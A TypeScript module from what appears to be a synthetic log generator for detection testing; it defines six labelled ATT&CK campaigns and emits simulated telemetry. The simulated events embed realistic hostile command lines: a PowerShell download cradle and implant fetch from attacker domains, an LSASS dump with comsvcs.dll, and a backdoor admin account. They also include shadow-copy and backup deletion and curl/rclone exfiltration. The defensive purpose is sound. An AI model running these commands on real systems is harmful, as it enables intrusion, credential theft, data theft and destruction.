/**
 * Attack campaigns: sequences of ATT&CK techniques across hosts and users with realistic timing.
 * Every record a campaign emits carries its ground truth (campaign, step, technique).
 */
import type { Host, User } from './org/model.js';
import type { Proc } from './formats/windows.js';
import type { Rng } from './prng.js';
import type { Truth } from './record.js';
import { BROWSER_UA, type World } from './world.js';

export interface CampaignStep {
  step: number;
  name: string;
  technique: string;
  tactic: string;
}

export interface CampaignDef {
  id: string;
  name: string;
  description: string;
  steps: CampaignStep[];
  /** Nominal duration from first to last step, minutes (compressed when the window is shorter). */
  spanMin: number;
  /** Preferred start, hour of day (UTC), on the first day that fits. */
  preferredHour: number;
  run(c: CampaignCtx): void;
}

export class CampaignCtx {
  readonly hosts = new Set<string>();
  readonly users = new Set<string>();
  /** Attacker infrastructure and artefacts (IPs, domains, files, keys): for eval and hunting, never for rules. */
  readonly indicators = new Set<string>();
  constructor(
    readonly def: CampaignDef,
    readonly world: World,
    readonly rng: Rng,
    readonly t0: number,
    readonly scale: number,
    readonly end: number,
  ) {}

  /** Time `min` minutes after the campaign start (scaled), plus `ms` unscaled milliseconds. */
  at(min: number, ms = 0): number {
    return this.t0 + Math.round(min * this.scale * 60_000) + ms;
  }

  truth(step: number): Truth {
    const s = this.def.steps.find((x) => x.step === step);
    if (!s) throw new Error(`campaign ${this.def.id} has no step ${step}`);
    return { campaign: this.def.id, step, technique: s.technique };
  }

  host(h: Host): Host {
    this.hosts.add(h.name);
    return h;
  }

  user(u: User): User {
    this.users.add(u.name);
    return u;
  }

  ioc(...xs: string[]): void {
    for (const x of xs) this.indicators.add(x);
  }
}

const PS = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
const CMD = 'C:\\Windows\\System32\\cmd.exe';

function pickVictim(w: World, r: Rng, exclude: Set<string>): { user: User; host: Host } {
  const cands = w.org.workstations.filter((h) => !exclude.has(h.name) && w.org.userByName.get(h.owner)?.kind === 'regular');
  const host = cands.length ? r.pick(cands) : w.org.workstations[0];
  exclude.add(host.name);
  return { host, user: w.org.userByName.get(host.owner) ?? w.org.users[0] };
}

const used = new WeakMap<World, Set<string>>();
function usedHosts(w: World): Set<string> {
  let s = used.get(w);
  if (!s) used.set(w, (s = new Set()));
  return s;
}

/** (a) Phishing document to exfiltration over HTTPS from a database server. */
const apt: CampaignDef = {
  id: 'a',
  name: 'phish-to-exfil',
  description: 'Macro document from a phishing mail runs a PowerShell download cradle, persists with a Run key and a scheduled task, runs discovery, dumps LSASS, moves to the database server with WMI and a remote service, creates a local admin, stages an encrypted archive and exfiltrates it over HTTPS.',
  spanMin: 300,
  preferredHour: 9,
  steps: [
    { step: 1, name: 'Phishing attachment opened (macro document)', technique: 'T1566.001', tactic: 'initial-access' },
    { step: 2, name: 'PowerShell download cradle', technique: 'T1059.001', tactic: 'execution' },
    { step: 3, name: 'Ingress tool transfer (payload download)', technique: 'T1105', tactic: 'command-and-control' },
    { step: 4, name: 'Persistence: registry Run key', technique: 'T1547.001', tactic: 'persistence' },
    { step: 5, name: 'Persistence: scheduled task', technique: 'T1053.005', tactic: 'persistence' },
    { step: 6, name: 'Discovery burst (account, group, domain, network)', technique: 'T1087.002', tactic: 'discovery' },
    { step: 7, name: 'LSASS memory dump with comsvcs.dll', technique: 'T1003.001', tactic: 'credential-access' },
    { step: 8, name: 'Lateral movement with WMI (wmiexec-style)', technique: 'T1047', tactic: 'execution' },
    { step: 9, name: 'Remote service creation on the server', technique: 'T1569.002', tactic: 'execution' },
    { step: 10, name: 'Local administrator account created', technique: 'T1136.001', tactic: 'persistence' },
    { step: 11, name: 'Data staged in a password-protected archive', technique: 'T1560.001', tactic: 'collection' },
    { step: 12, name: 'Exfiltration over HTTPS', technique: 'T1048.002', tactic: 'exfiltration' },
  ],
  run(c) {
    const w = c.world;
    const r = c.rng;
    const emit = w.emit;
    const { host, user } = pickVictim(w, r, usedHosts(w));
    c.host(host);
    c.user(user);
    const wh = w.w(host.name);
    const server = c.host(w.org.byRole('database')[0] ?? w.org.byRole('app_server')[0] ?? w.org.byRole('file_server')[0]);
    const admin = c.user(w.org.users.filter((u) => u.kind === 'admin')[1] ?? w.org.users.find((u) => u.kind === 'admin')!);
    const stageDomain = 'cdn.officeupdate-sync.com';
    const stageIp = '91.215.85.147';
    c.ioc(stageDomain, stageIp, 'files.sharedocs-transfer.net', '45.153.240.12');
    const logonId = wh.logonId();
    // 1. Outlook saves the attachment; Word opens it.
    const outlook: Proc = { guid: wh.guid(c.at(-60)), pid: 7344, image: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE', cmd: '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE" ', user: `${w.org.netbios}\\${user.name}`, logonId, integrity: 'Medium' };
    const docPath = `C:\\Users\\${user.name}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\${r.hex(8).toUpperCase()}\\Invoice_${r.range(40000, 49999)}.docm`;
    wh.fileCreate(emit, c.at(0), outlook, docPath, c.truth(1));
    const word = wh.spawn(emit, c.at(0, 9_000), outlook, 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', `"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "${docPath}" /o ""`, { user, logonId, truth: c.truth(1) });
    // 2. The macro starts a PowerShell download cradle.
    const cradleUrl = `https://${stageDomain}/api/v1/ping.ps1`;
    const ps = wh.spawn(emit, c.at(0, 31_000), word, PS, `powershell.exe -NoP -sta -NonI -W Hidden -Exec Bypass -C "IEX (New-Object Net.WebClient).DownloadString('${cradleUrl}')"`, { user, logonId, truth: c.truth(2) });
    wh.scriptBlock(emit, c.at(0, 31_500), `IEX (New-Object Net.WebClient).DownloadString('${cradleUrl}')`, '', c.truth(2));
    w.web(c.at(0, 32_000), host, ps, user, { domain: stageDomain, ip: stageIp, path: '/api/v1/ping.ps1', bytesIn: 4_812, mime: 'text/plain', sysmon: true, dns: true }, c.truth(2));
    // 3. The script downloads the implant.
    const implantPath = `C:\\Users\\${user.name}\\AppData\\Roaming\\Adobe\\AcroUpdate.exe`;
    wh.scriptBlock(emit, c.at(1), `$wc = New-Object System.Net.WebClient; $wc.DownloadFile('https://${stageDomain}/static/AcroUpdate.exe', "$env:APPDATA\\Adobe\\AcroUpdate.exe"); Start-Process "$env:APPDATA\\Adobe\\AcroUpdate.exe"`, '', c.truth(3));
    w.web(c.at(1, 400), host, ps, user, { domain: stageDomain, ip: stageIp, path: '/static/AcroUpdate.exe', bytesIn: 318_464, mime: 'application/octet-stream', sysmon: true, dns: false }, c.truth(3));
    wh.fileCreate(emit, c.at(1, 2_500), ps, implantPath, c.truth(3));
    const implant = wh.spawn(emit, c.at(1, 4_000), ps, implantPath, `"${implantPath}"`, { user, logonId, truth: c.truth(3) });
    // 4. Run key with reg.exe.
    const reg = wh.spawn(emit, c.at(6), implant, 'C:\\Windows\\System32\\reg.exe', `reg.exe add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v AdobeAcroUpdate /t REG_SZ /d "${implantPath}" /f`, { user, logonId, truth: c.truth(4) });
    wh.registrySet(emit, c.at(6, 60), reg, `HKU\\${user.sid}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\AdobeAcroUpdate`, implantPath, c.truth(4));
    // 5. Scheduled task at logon.
    wh.spawn(emit, c.at(7), implant, 'C:\\Windows\\System32\\schtasks.exe', `schtasks.exe /create /sc onlogon /tn "Adobe Acrobat Update Task" /tr "${implantPath}" /f`, { user, logonId, truth: c.truth(5) });
    wh.taskCreated(emit, c.at(7, 200), user, logonId, '\\Adobe Acrobat Update Task', implantPath, '', c.truth(5));
    // 6. Discovery burst through cmd.exe.
    const disc: [string, string][] = [
      ['C:\\Windows\\System32\\whoami.exe', 'whoami  /all'],
      ['C:\\Windows\\System32\\net.exe', 'net  group "Domain Admins" /domain'],
      ['C:\\Windows\\System32\\net.exe', 'net  user /domain'],
      ['C:\\Windows\\System32\\nltest.exe', 'nltest  /domain_trusts /all_trusts'],
      ['C:\\Windows\\System32\\nltest.exe', 'nltest  /dclist:'],
      ['C:\\Windows\\System32\\ipconfig.exe', 'ipconfig  /all'],
      ['C:\\Windows\\System32\\systeminfo.exe', 'systeminfo'],
      ['C:\\Windows\\System32\\net.exe', `net  view \\\\${server.name}`],
    ];
    let t = c.at(25);
    for (const [img, cl] of disc) {
      const sh = wh.spawn(emit, t, implant, CMD, `C:\\Windows\\system32\\cmd.exe /C ${cl}`, { user, logonId, truth: c.truth(6) });
      wh.spawn(emit, t + 150, sh, img, cl, { user, logonId, truth: c.truth(6) });
      t += 6_000 + r.int(20_000);
    }
    // 7. LSASS dump with comsvcs.dll (the user is a local administrator on their workstation).
    const dump = 'C:\\Users\\Public\\Documents\\diag.dmp';
    const rd = wh.spawn(emit, c.at(55), implant, 'C:\\Windows\\System32\\rundll32.exe', `"C:\\Windows\\system32\\rundll32.exe" C:\\Windows\\System32\\comsvcs.dll, MiniDump ${wh.lsass.pid} ${dump} full`, { user, logonId, integrity: 'High', truth: c.truth(7) });
    wh.processAccess(emit, c.at(55, 300), rd, wh.lsass, '0x1FFFFF', 'C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|C:\\Windows\\System32\\comsvcs.dll+5b8e|C:\\Windows\\system32\\rundll32.exe+3bc4', c.truth(7));
    wh.fileCreate(emit, c.at(55, 2_000), rd, dump, c.truth(7));
    // 8. WMI execution on the server with the admin's stolen credentials (NTLM, from the workstation).
    const sw = w.w(server.name);
    w.net.conn(emit, c.at(95), { src: host.ip, dst: server.ip, dport: 135, service: 'dce_rpc', duration: 0.3, origBytes: 2_200, respBytes: 1_900 }, c.truth(8));
    const srvLogon = sw.logon(emit, c.at(95, 200), admin, 3, host.ip, host.name, { truth: c.truth(8), auth: 'NTLM' });
    const outFile = `\\\\127.0.0.1\\ADMIN$\\__${Math.floor(c.at(95) / 1000)}.${r.range(1000000, 9999999)}`;
    const wmiCmds = ['cd \\', 'hostname', 'whoami /priv', 'dir D:\\Exports'];
    let tw = c.at(96);
    for (const wc of wmiCmds) {
      sw.spawn(emit, tw, sw.wmiprvse, CMD, `cmd.exe /Q /c ${wc} 1> ${outFile} 2>&1`, { user: admin, logonId: srvLogon, integrity: 'High', truth: c.truth(8) });
      w.net.conn(emit, tw + 500, { src: host.ip, dst: server.ip, dport: 445, service: 'smb', duration: 0.5, origBytes: 1_600, respBytes: 2_400 }, c.truth(8));
      tw += 20_000 + r.int(40_000);
    }
    // 9. A remote service that runs the implant as SYSTEM.
    const svcName = 'WinHttpProxySvc';
    w.net.conn(emit, c.at(110), { src: host.ip, dst: server.ip, dport: 445, service: 'smb', duration: 1.4, origBytes: 321_000, respBytes: 4_100 }, c.truth(9));
    sw.serviceInstalled(emit, c.at(110, 2_000), svcName, `%COMSPEC% /Q /c C:\\Windows\\Temp\\winhttp.exe`, 'LocalSystem', c.truth(9));
    const svcCmd = sw.spawn(emit, c.at(110, 2_400), sw.services, CMD, 'C:\\Windows\\system32\\cmd.exe /Q /c C:\\Windows\\Temp\\winhttp.exe', { truth: c.truth(9) });
    const srvImplant = sw.spawn(emit, c.at(110, 2_700), svcCmd, 'C:\\Windows\\Temp\\winhttp.exe', 'C:\\Windows\\Temp\\winhttp.exe', { truth: c.truth(9) });
    // 10. A local administrator for later access.
    const newUser = 'sqlbackup';
    const newSid = `${server.sid}-1009`;
    const nu = sw.spawn(emit, c.at(120), srvImplant, 'C:\\Windows\\System32\\net.exe', `net  user ${newUser} Summer2026! /add`, { truth: c.truth(10) });
    sw.spawn(emit, c.at(120, 80), nu, 'C:\\Windows\\System32\\net1.exe', `C:\\Windows\\system32\\net1  user ${newUser} Summer2026! /add`, { truth: c.truth(10) });
    sw.userCreated(emit, c.at(120, 120), admin, srvLogon, newUser, newSid, c.truth(10));
    sw.spawn(emit, c.at(121), srvImplant, 'C:\\Windows\\System32\\net.exe', `net  localgroup administrators ${newUser} /add`, { truth: c.truth(10) });
    sw.groupMemberAdded(emit, c.at(121, 100), admin, srvLogon, newSid, { name: 'Administrators', sid: 'S-1-5-32-544', domain: 'Builtin' }, c.truth(10));
    // 11. Staging: a password-protected 7-Zip archive of the database exports.
    const archive = 'C:\\ProgramData\\Microsoft\\Crypto\\Keys\\cache.7z';
    const zip = sw.spawn(emit, c.at(200), srvImplant, 'C:\\ProgramData\\7za.exe', `C:\\ProgramData\\7za.exe a -t7z -mhe=on -pW3lcome!2026 ${archive} D:\\Exports\\*.bak`, { truth: c.truth(11) });
    sw.fileCreate(emit, c.at(200, 500), zip, archive, c.truth(11));
    // 12. Exfiltration: chunked HTTPS uploads through the proxy.
    const exDomain = 'files.sharedocs-transfer.net';
    const exIp = '45.153.240.12';
    const curl = sw.spawn(emit, c.at(230), srvImplant, 'C:\\Windows\\System32\\curl.exe', `curl.exe -s -k -X POST -F "file=@${archive}" https://${exDomain}/upload`, { truth: c.truth(12) });
    for (let i = 0; i < 12; i++) {
      w.web(c.at(230 + i * 4), server, curl, null, { domain: exDomain, ip: exIp, path: `/upload?part=${i + 1}`, method: 'POST', bytesOut: 48_000_000 + r.int(4_000_000), bytesIn: 220, mime: 'application/json', sysmon: i === 0, dns: i === 0, elapsedMs: 18_000 + r.int(9_000) }, c.truth(12));
    }
  },
};

/** (b) Password spraying against Entra ID, a successful sign-in, then mail and SharePoint access from the new location. */
const spray: CampaignDef = {
  id: 'b',
  name: 'cloud-password-spray',
  description: 'Password spraying against Entra ID sign-in from a VPS, one account falls, and the attacker reads its mailbox and SharePoint from a new country.',
  spanMin: 90,
  preferredHour: 4,
  steps: [
    { step: 1, name: 'Password spraying against cloud sign-in', technique: 'T1110.003', tactic: 'credential-access' },
    { step: 2, name: 'Successful sign-in with a sprayed password', technique: 'T1078.004', tactic: 'initial-access' },
    { step: 3, name: 'Mailbox access from a new location', technique: 'T1114.002', tactic: 'collection' },
    { step: 4, name: 'SharePoint data access from a new location', technique: 'T1213.002', tactic: 'collection' },
  ],
  run(c) {
    const w = c.world;
    const r = c.rng;
    const where = { ip: '193.233.20.55', city: 'Amsterdam', state: 'Noord-Holland', country: 'NL', lat: 52.3676, lon: 4.9041 };
    const ua = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/117.0.0.0 Safari/537.36';
    const users = w.org.users.filter((u) => u.kind === 'regular');
    const targets = users.slice(0, Math.min(users.length, 30));
    const victim = c.user(targets[Math.min(targets.length - 1, 7)]);
    c.ioc(where.ip);
    let t = c.at(0);
    for (const u of targets) {
      c.user(u);
      w.entra.signIn(w.emit, t, u, { app: w.org.file.identity.apps[0], where, device: null, ua, result: '50126', interactive: true, clientApp: 'Browser' }, c.truth(1));
      t += 8_000 + r.int(30_000);
    }
    // A few nonexistent accounts from the attacker's list.
    for (const n of ['administrator', 'it.support', 'finance']) {
      w.entra.signIn(w.emit, t, { upn: `${n}@${w.org.file.emailDomain}`, display: n, objectId: '00000000-0000-0000-0000-000000000000' }, { app: w.org.file.identity.apps[0], where, device: null, ua, result: '50126', interactive: true }, c.truth(1));
      t += 10_000 + r.int(20_000);
    }
    const t2 = c.at(40);
    w.entra.signIn(w.emit, t2, victim, { app: w.org.file.identity.apps[0], where, device: null, ua, result: '0', interactive: true, risk: 'medium' }, c.truth(2));
    for (let i = 0; i < 8; i++) {
      w.entra.signIn(w.emit, c.at(45 + i * 4), victim, { app: w.org.file.identity.apps[0], where, device: null, ua, result: '0', interactive: false, clientApp: 'Exchange Web Services' }, c.truth(3));
    }
    for (let i = 0; i < 4; i++) {
      w.entra.signIn(w.emit, c.at(70 + i * 5), victim, { app: w.org.file.identity.apps[2], where, device: null, ua, result: '0', interactive: false }, c.truth(4));
    }
  },
};

/** (c) Ransomware precursor on the file server: recovery inhibition and mass encryption. */
const ransomware: CampaignDef = {
  id: 'c',
  name: 'ransomware-precursor',
  description: 'An operator with a stolen admin account logs on to the file server, deletes shadow copies and the backup catalog, disables recovery and starts encrypting the shares (mass file rewrites plus ransom notes).',
  spanMin: 40,
  preferredHour: 22,
  steps: [
    { step: 1, name: 'Remote logon with a valid admin account', technique: 'T1078.002', tactic: 'initial-access' },
    { step: 2, name: 'Shadow copies deleted', technique: 'T1490', tactic: 'impact' },
    { step: 3, name: 'Backup catalog deleted and recovery disabled', technique: 'T1490', tactic: 'impact' },
    { step: 4, name: 'Files encrypted (mass rewrite with a new extension)', technique: 'T1486', tactic: 'impact' },
  ],
  run(c) {
    const w = c.world;
    const r = c.rng;
    const emit = w.emit;
    const fs = c.host(w.org.byRole('file_server')[0]);
    const admin = c.user(w.org.users.find((u) => u.kind === 'admin')!);
    const src = c.host(pickVictim(w, r, usedHosts(w)).host);
    c.ioc('C:\\Users\\Public\\Music\\svcupdate.exe', '.nwlock');
    const sw = w.w(fs.name);
    const logonId = sw.logon(emit, c.at(0), admin, 10, src.ip, src.name, { truth: c.truth(1), auth: 'Negotiate' });
    w.net.conn(emit, c.at(0, -400), { src: src.ip, dst: fs.ip, dport: 3389, service: 'ssl', duration: 2400, origBytes: 4_800_000, respBytes: 22_000_000 }, c.truth(1));
    const explorer = sw.spawn(emit, c.at(1), sw.svchost, 'C:\\Windows\\explorer.exe', 'C:\\Windows\\Explorer.EXE', { user: admin, logonId, truth: c.truth(1) });
    const sh = sw.spawn(emit, c.at(4), explorer, CMD, '"C:\\Windows\\system32\\cmd.exe" ', { user: admin, logonId, integrity: 'High', truth: c.truth(2) });
    sw.spawn(emit, c.at(5), sh, 'C:\\Windows\\System32\\vssadmin.exe', 'vssadmin.exe  delete shadows /all /quiet', { user: admin, logonId, integrity: 'High', truth: c.truth(2) });
    sw.spawn(emit, c.at(6), sh, 'C:\\Windows\\System32\\wbem\\WMIC.exe', 'wmic.exe  shadowcopy delete /nointeractive', { user: admin, logonId, integrity: 'High', truth: c.truth(2) });
    sw.spawn(emit, c.at(7), sh, 'C:\\Windows\\System32\\wbadmin.exe', 'wbadmin  delete catalog -quiet', { user: admin, logonId, integrity: 'High', truth: c.truth(3) });
    sw.spawn(emit, c.at(7, 20_000), sh, 'C:\\Windows\\System32\\bcdedit.exe', 'bcdedit.exe  /set {default} recoveryenabled No', { user: admin, logonId, integrity: 'High', truth: c.truth(3) });
    sw.spawn(emit, c.at(7, 30_000), sh, 'C:\\Windows\\System32\\bcdedit.exe', 'bcdedit.exe  /set {default} bootstatuspolicy ignoreallfailures', { user: admin, logonId, integrity: 'High', truth: c.truth(3) });
    const enc = sw.spawn(emit, c.at(10), sh, 'C:\\Users\\Public\\Music\\svcupdate.exe', 'C:\\Users\\Public\\Music\\svcupdate.exe -path D:\\Shares -threads 8', { user: admin, logonId, integrity: 'High', truth: c.truth(4) });
    const dirs = ['Finance', 'HR', 'Operations', 'Sales', 'Customs', 'Fleet'];
    let t = c.at(11);
    const n = 240;
    for (let i = 0; i < n; i++) {
      const dir = dirs[i % dirs.length];
      if (i < dirs.length) sw.fileCreate(emit, t, enc, `D:\\Shares\\${dir}\\HOW_TO_RESTORE_FILES.txt`, c.truth(4));
      const name = `${r.pick(['report', 'invoice', 'contract', 'manifest', 'payroll', 'budget'])}_${r.range(2019, 2026)}_${r.hex(4)}.${r.pick(['xlsx', 'docx', 'pdf', 'csv'])}`;
      sw.fileCreate(emit, t + 5, enc, `D:\\Shares\\${dir}\\${name}.nwlock`, c.truth(4));
      t += 150 + r.int(900);
    }
  },
};

/** (d) Slow command-and-control beaconing from one workstation. */
const beacon: CampaignDef = {
  id: 'd',
  name: 'slow-beacon',
  description: 'A DLL started with rundll32 from the user profile beacons over HTTPS every ~15 minutes with jitter to a CDN-looking domain.',
  spanMin: 0, // runs to the end of the window
  preferredHour: 11,
  steps: [
    { step: 1, name: 'Implant DLL executed with rundll32', technique: 'T1218.011', tactic: 'defense-evasion' },
    { step: 2, name: 'HTTPS beaconing to command and control', technique: 'T1071.001', tactic: 'command-and-control' },
  ],
  run(c) {
    const w = c.world;
    const r = c.rng;
    const emit = w.emit;
    const { host, user } = pickVictim(w, r, usedHosts(w));
    c.host(host);
    c.user(user);
    const wh = w.w(host.name);
    const logonId = wh.logonId();
    const explorer: Proc = { guid: wh.guid(c.at(-120)), pid: 5120, image: 'C:\\Windows\\explorer.exe', cmd: 'C:\\Windows\\Explorer.EXE', user: `${w.org.netbios}\\${user.name}`, logonId, integrity: 'Medium' };
    const dll = `C:\\Users\\${user.name}\\AppData\\Local\\Temp\\mscorsvc.dll`;
    const rd = wh.spawn(emit, c.at(0), explorer, 'C:\\Windows\\System32\\rundll32.exe', `"C:\\Windows\\System32\\rundll32.exe" "${dll}",DllRegisterServer`, { user, logonId, truth: c.truth(1) });
    const domain = 'static.cdn-jsdelivery.com';
    const ip = '104.21.77.12';
    c.ioc(domain, ip, dll);
    const interval = 15 * 60_000;
    let t = c.at(0, 20_000);
    let first = true;
    while (t < c.end - 60_000) {
      w.web(t, host, rd, user, { domain, ip, path: r.chance(0.9) ? '/jquery-3.3.1.min.js' : '/jquery-3.3.1.slim.min.js', bytesIn: 5_543 + r.int(40), bytesOut: 180 + r.int(60), mime: 'application/javascript', sysmon: true, dns: first || r.chance(0.1) }, c.truth(2));
      first = false;
      t += Math.round(interval * (0.8 + r.next() * 0.4));
    }
  },
};

/** (e) An insider copies a large volume of share data to personal cloud storage after hours. */
const insider: CampaignDef = {
  id: 'e',
  name: 'insider-bulk-copy',
  description: 'After hours, an employee copies finance shares to their workstation with robocopy and uploads them to personal MEGA storage with rclone.',
  spanMin: 120,
  preferredHour: 19,
  steps: [
    { step: 1, name: 'Bulk copy from a network share', technique: 'T1039', tactic: 'collection' },
    { step: 2, name: 'Exfiltration to cloud storage with rclone', technique: 'T1567.002', tactic: 'exfiltration' },
  ],
  run(c) {
    const w = c.world;
    const r = c.rng;
    const emit = w.emit;
    const { host, user } = pickVictim(w, r, usedHosts(w));
    c.host(host);
    c.user(user);
    const fs = c.host(w.org.byRole('file_server')[0]);
    const wh = w.w(host.name);
    const logonId = wh.logon(emit, c.at(0), user, 2, '127.0.0.1', host.name, { truth: c.truth(1) });
    const explorer = wh.spawn(emit, c.at(0, 1_200), wh.svchost, 'C:\\Windows\\explorer.exe', 'C:\\Windows\\Explorer.EXE', { user, logonId, truth: c.truth(1) });
    const sh = wh.spawn(emit, c.at(2), explorer, CMD, '"C:\\Windows\\system32\\cmd.exe" ', { user, logonId, truth: c.truth(1) });
    const dest = `C:\\Users\\${user.name}\\Documents\\archive`;
    for (const [i, share] of ['Finance', 'HR', 'Sales'].entries()) {
      wh.spawn(emit, c.at(3 + i * 12), sh, 'C:\\Windows\\System32\\Robocopy.exe', `robocopy  \\\\${fs.name}\\Shares\\${share} ${dest}\\${share} /E /R:0 /W:0 /NP`, { user, logonId, truth: c.truth(1) });
      w.smb(c.at(3 + i * 12, 2_000), host, fs, user, { out: 2_000_000, in: 3_500_000_000 + r.int(900_000_000) }, c.truth(1));
    }
    c.ioc('g.api.mega.co.nz', 'userstorage.mega.co.nz');
    const rcl = `C:\\Users\\${user.name}\\Downloads\\rclone-v1.64.2-windows-amd64\\rclone.exe`;
    const rc = wh.spawn(emit, c.at(45), sh, rcl, `${rcl} copy ${dest} mega:backup --transfers 8 --progress`, { user, logonId, truth: c.truth(2) });
    w.web(c.at(45, 800), host, rc, user, { domain: 'g.api.mega.co.nz', ip: '66.203.125.11', path: `/cs?id=${r.range(1, 999999)}&v=2`, method: 'POST', bytesOut: 900, bytesIn: 2_100, mime: 'application/json', sysmon: true, dns: true }, c.truth(2));
    for (let i = 0; i < 40; i++) {
      w.web(c.at(46 + i * 1.8), host, rc, user, { domain: `gfs${r.range(200, 299)}n${r.range(100, 399)}.userstorage.mega.co.nz`, ip: `31.216.148.${r.range(2, 250)}`, path: `/ul/${r.hex(20)}/${r.range(0, 999999)}`, method: 'POST', bytesOut: 180_000_000 + r.int(60_000_000), bytesIn: 300, mime: 'application/octet-stream', sysmon: i === 0, dns: true, elapsedMs: 60_000 + r.int(30_000) }, c.truth(2));
    }
  },
};

/** (f) Cloud data theft with a stolen access key: no shipped Sigma rule covers these API calls. */
const stealth: CampaignDef = {
  id: 'f',
  name: 'stolen-key-cloud-theft',
  description: 'A leaked CI access key is used at night from an unfamiliar VPS to enumerate buckets and download the finance reports bucket object by object. Every call is a valid, read-only API call; only behavioural models (new source IP and user agent for the key, a bucket the key never reads, the volume) can catch it.',
  spanMin: 45,
  preferredHour: 3,
  steps: [
    { step: 1, name: 'Valid cloud account used from a new location', technique: 'T1078.004', tactic: 'initial-access' },
    { step: 2, name: 'Cloud storage object discovery', technique: 'T1619', tactic: 'discovery' },
    { step: 3, name: 'Data from cloud storage', technique: 'T1530', tactic: 'collection' },
  ],
  run(c) {
    const w = c.world;
    const r = c.rng;
    const emit = w.emit;
    const b = w.org.file.cloud;
    const key = w.awsKey('ci-deployer');
    const ip = '5.188.62.214';
    c.ioc(ip, key.accessKeyId);
    const ua = 'Boto3/1.28.57 md/Botocore#1.31.57 ua/2.0 os/linux#6.2.0-1014-azure md/arch#x86_64 lang/python#3.10.12 md/pyimpl#CPython cfg/retry-mode#legacy Botocore/1.31.57';
    w.ct.record(emit, c.at(0), key, { source: 'sts.amazonaws.com', name: 'GetCallerIdentity', ip, ua, readOnly: true }, c.truth(1));
    w.ct.record(emit, c.at(1), key, { source: 's3.amazonaws.com', name: 'ListBuckets', ip, ua, readOnly: true, request: { Host: `s3.${b.region}.amazonaws.com` } }, c.truth(2));
    const bucket = b.buckets[1];
    for (let i = 0; i < 3; i++) {
      w.ct.record(emit, c.at(2 + i), key, { source: 's3.amazonaws.com', name: 'ListObjects', ip, ua, readOnly: true, data: true, request: { bucketName: bucket, Host: `${bucket}.s3.${b.region}.amazonaws.com`, prefix: ['quarterly/', 'payroll/', 'audit/'][i], 'list-type': '2' }, resources: [{ type: 'AWS::S3::Bucket', ARN: `arn:aws:s3:::${bucket}` }] }, c.truth(2));
    }
    let t = c.at(5);
    for (let i = 0; i < 180; i++) {
      const k = `${r.pick(['quarterly', 'payroll', 'audit'])}/${r.range(2021, 2026)}/${r.pick(['report', 'ledger', 'summary'])}-${r.hex(6)}.${r.pick(['pdf', 'xlsx', 'csv'])}`;
      w.ct.record(emit, t, key, { source: 's3.amazonaws.com', name: 'GetObject', ip, ua, readOnly: true, data: true, request: { bucketName: bucket, Host: `${bucket}.s3.${b.region}.amazonaws.com`, key: k }, resources: [{ type: 'AWS::S3::Object', ARN: `arn:aws:s3:::${bucket}/${k}` }] }, c.truth(3));
      t += Math.round(500 + r.int(14_000) * c.scale);
    }
    c.users.add('ci-deployer');
  },
};

/** Every campaign by id. */
export const CAMPAIGNS: Record<string, CampaignDef> = { a: apt, b: spray, c: ransomware, d: beacon, e: insider, f: stealth };

/** Named scenarios: which campaigns run. */
export const SCENARIOS: Record<string, { description: string; campaigns: string[] }> = {
  default: { description: 'A working day with every campaign (a-f).', campaigns: ['a', 'b', 'c', 'd', 'e', 'f'] },
  quiet: { description: 'Background activity only (false-positive testing).', campaigns: [] },
  'phish-to-exfil': { description: 'Campaign a only.', campaigns: ['a'] },
  'cloud-password-spray': { description: 'Campaign b only.', campaigns: ['b'] },
  'ransomware-precursor': { description: 'Campaign c only.', campaigns: ['c'] },
  'slow-beacon': { description: 'Campaign d only.', campaigns: ['d'] },
  'insider-bulk-copy': { description: 'Campaign e only.', campaigns: ['e'] },
  'stolen-key-cloud-theft': { description: 'Campaign f only.', campaigns: ['f'] },
};
export { BROWSER_UA };
